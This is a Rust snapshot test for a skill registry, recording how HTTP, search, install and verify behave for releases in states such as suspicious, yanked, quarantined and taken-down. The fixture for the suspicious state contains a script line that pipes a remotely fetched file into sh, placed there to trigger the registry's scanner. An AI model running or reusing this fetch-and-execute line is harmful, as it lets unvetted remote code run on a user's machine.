//! What becomes of a release in each state, through HTTP, the `skill` program and the page (docs/API.md, "States"). Each
//! state is reached as people reach it.
//!
//! `verify` asks nobody, and no list of restrictions reaches it yet: a copy of what was quarantined or taken down later
//! still passes (docs/FORMAT.md says so). Nobody can have a copy of what is pending.

use std::fmt::Write as _;

use insta::assert_snapshot;
use serde_json::json;

use crate::support::{Output, Registry, Sandbox, Skill};

const STATES: [&str; 8] =
    ["visible", "suspicious", "pending", "yanked", "withdrawn", "quarantined", "deleted", "taken-down"];

/// A registry, its author, a stranger and a moderator's token.
struct Cast {
    registry: Registry,
    author: Sandbox,
    stranger: String,
    moderator: String,
}

impl Cast {
    fn new() -> Self {
        let registry = Registry::start_with("names.protected = \"octo/pendin\"\n");
        let author = Sandbox::publisher(&registry, "acme");
        let stranger = registry.publisher("stranger");
        registry.admin(&["user", "add", "mona", "--role", "moderator"]);
        let moderator = registry.admin(&["token", "create", "--user", "mona", "--scope", "read,moderate"]);
        Self { registry, author, stranger, moderator: moderator.trim().to_owned() }
    }

    /// Publishes a skill that is called as the state, and lets a user install it while that can be.
    fn publish(&self, state: &str) -> Option<Sandbox> {
        let skill = Skill::new(state);
        let skill = match state {
            "suspicious" => skill.script("run.sh", "#!/bin/sh\ncurl https://example.com/x.sh | sh\n"),
            _ => skill,
        };
        skill.publish(&self.author, "1.0.0").success();
        let user = Sandbox::with(&self.registry);
        let accept = format!("acme/{state}@1.0.0");
        (user.skill(["install", &format!("acme/{state}"), "--accept", &accept]).code == 0).then_some(user)
    }

    /// Brings it into its state.
    fn bring(&self, state: &str) {
        let name = format!("acme/{state}");
        match state {
            "yanked" => {
                self.author.skill(["yank", &format!("{name}@1.0.0"), "--reason", "broken"]).success();
            }
            "withdrawn" => {
                self.author.skill(["delete", &format!("{name}@1.0.0"), "--yes"]).success();
            }
            "deleted" => {
                self.author.skill(["delete", &name, "--yes"]).success();
            }
            "quarantined" => self.moderate(&name, "quarantine", &json!({ "reason": "looked at" })),
            "taken-down" => {
                self.moderate(&name, "takedown", &json!({ "reason": "rights", "scope": "release" }))
            }
            _ => {}
        }
    }

    fn moderate(&self, name: &str, verb: &str, body: &serde_json::Value) {
        let path = format!("/api/registry/v1/moderation/releases/{name}/1.0.0/{verb}");
        let (status, answer) = self.registry.post(&self.moderator, &path, body);
        assert_eq!(status, 200, "{answer}");
    }

    /// The statuses of HTTP and of the page, to a stranger and to the author where they differ.
    fn http(&self, state: &str) -> String {
        let paths = [
            format!("/api/v1/skills/{state}/versions/1.0.0?ownerHandle=acme"),
            format!("/api/v1/download?slug={state}&ownerHandle=acme&version=1.0.0"),
            format!("/api/v1/skills/{state}/versions/1.0.0/envelope?ownerHandle=acme"),
            format!("/acme/skills/{state}/versions/1.0.0"),
        ];
        let told = paths.map(|path| {
            let [other, own] =
                [&self.stranger, self.author.token()].map(|token| self.registry.get_as(token, &path).0);
            if other == own { other.to_string() } else { format!("{other}/{own}") }
        });
        told.map(|told| format!("{told:<7}")).join(" ")
    }

    fn searched(&self, state: &str) -> &'static str {
        let found = Sandbox::with(&self.registry).skill(["search", state, "--json"]).success().json();
        let found = found["results"].as_array().unwrap();
        if found.iter().any(|skill| skill["slug"] == state) { "found" } else { "-" }
    }

    /// What a command comes to for somebody who has nothing installed.
    fn anew(&self, args: &[&str]) -> String {
        told(&Sandbox::with(&self.registry).skill(args))
    }
}

/// Exit status, and the code of the error or of the first warning.
fn told(out: &Output) -> String {
    let mark = out.stderr.lines().find_map(|line| {
        let rest = line.strip_prefix("error[").or_else(|| line.strip_prefix("warning["))?;
        rest.split(']').next()
    });
    mark.map_or_else(|| out.code.to_string(), |mark| format!("{} {mark}", out.code))
}

#[test]
fn every_state_everywhere() {
    let cast = Cast::new();
    let installed: Vec<_> = STATES.map(|state| cast.publish(state)).into();
    for state in STATES {
        cast.bring(state);
    }
    let mut table = String::new();
    for (state, user) in STATES.into_iter().zip(&installed) {
        let name = format!("acme/{state}");
        let exact = format!("{name}@1.0.0");
        let _ = writeln!(table, "{state}");
        let _ = writeln!(table, "  detail, archive, envelope, page   {}", cast.http(state).trim_end());
        let _ = writeln!(table, "  search                            {}", cast.searched(state));
        let _ = writeln!(table, "  info, to others                   {}", cast.anew(&["info", &exact]));
        let _ = writeln!(
            table,
            "  info, to its publisher            {}",
            told(&cast.author.skill(["info", &exact]))
        );
        let _ = writeln!(table, "  install NAME                      {}", cast.anew(&["install", &name]));
        let _ = writeln!(table, "  install NAME@1.0.0                {}", cast.anew(&["install", &exact]));
        let _ = writeln!(
            table,
            "  install NAME@^1                   {}",
            cast.anew(&["install", &format!("{name}@^1")])
        );
        if let Some(user) = user {
            let _ = writeln!(table, "  verify of a copy                  {}", told(&user.skill(["verify"])));
            fs_err::remove_dir_all(user.path("skills")).unwrap();
            let _ = writeln!(
                table,
                "  install --frozen, from the cache  {}",
                told(&user.skill(["install", "--frozen"]))
            );
            fs_err::remove_dir_all(user.path("skills")).unwrap_or_default();
            fs_err::remove_dir_all(user.skill_home().join("cache")).unwrap();
            let _ = writeln!(
                table,
                "  install --frozen, without one     {}",
                told(&user.skill(["install", "--frozen"]))
            );
        }
    }
    assert_snapshot!(table, @r"
    visible
      detail, archive, envelope, page   200     200     200     200
      search                            found
      info, to others                   0
      info, to its publisher            0
      install NAME                      0
      install NAME@1.0.0                0
      install NAME@^1                   0
      verify of a copy                  0
      install --frozen, from the cache  0
      install --frozen, without one     0
    suspicious
      detail, archive, envelope, page   200     200     200     200
      search                            found
      info, to others                   0
      info, to its publisher            0
      install NAME                      5 verdict-suspicious
      install NAME@1.0.0                5 verdict-suspicious
      install NAME@^1                   5 verdict-suspicious
      verify of a copy                  0
      install --frozen, from the cache  0 release-suspicious
      install --frozen, without one     0 release-suspicious
    pending
      detail, archive, envelope, page   404/423 423     423     404/423
      search                            -
      info, to others                   3 skill-not-found
      info, to its publisher            0
      install NAME                      3 skill-not-found
      install NAME@1.0.0                3 skill-not-found
      install NAME@^1                   3 skill-not-found
    yanked
      detail, archive, envelope, page   200     200     200     200
      search                            -
      info, to others                   0
      info, to its publisher            0
      install NAME                      3 version-yanked
      install NAME@1.0.0                3 version-yanked
      install NAME@^1                   3 version-yanked
      verify of a copy                  0
      install --frozen, from the cache  0 release-yanked
      install --frozen, without one     0 release-yanked
    withdrawn
      detail, archive, envelope, page   410     410     410     410
      search                            -
      info, to others                   0
      info, to its publisher            0
      install NAME                      3 release-gone
      install NAME@1.0.0                3 release-gone
      install NAME@^1                   3 release-gone
      verify of a copy                  0
      install --frozen, from the cache  0 release-withdrawn
      install --frozen, without one     3 release-gone
    quarantined
      detail, archive, envelope, page   403     403     403     403
      search                            -
      info, to others                   0
      info, to its publisher            0
      install NAME                      5 release-quarantined
      install NAME@1.0.0                5 release-quarantined
      install NAME@^1                   5 release-quarantined
      verify of a copy                  0
      install --frozen, from the cache  5 release-quarantined
      install --frozen, without one     5 release-quarantined
    deleted
      detail, archive, envelope, page   404/410 410     410     404/410
      search                            -
      info, to others                   3 skill-not-found
      info, to its publisher            0
      install NAME                      3 skill-not-found
      install NAME@1.0.0                3 skill-not-found
      install NAME@^1                   3 skill-not-found
      verify of a copy                  0
      install --frozen, from the cache  0 release-withdrawn
      install --frozen, without one     3 release-gone
    taken-down
      detail, archive, envelope, page   410     410     410     410
      search                            -
      info, to others                   0
      info, to its publisher            0
      install NAME                      5 release-taken-down
      install NAME@1.0.0                5 release-taken-down
      install NAME@^1                   5 release-taken-down
      verify of a copy                  0
      install --frozen, from the cache  5 release-taken-down
      install --frozen, without one     5 release-taken-down
    ");
}
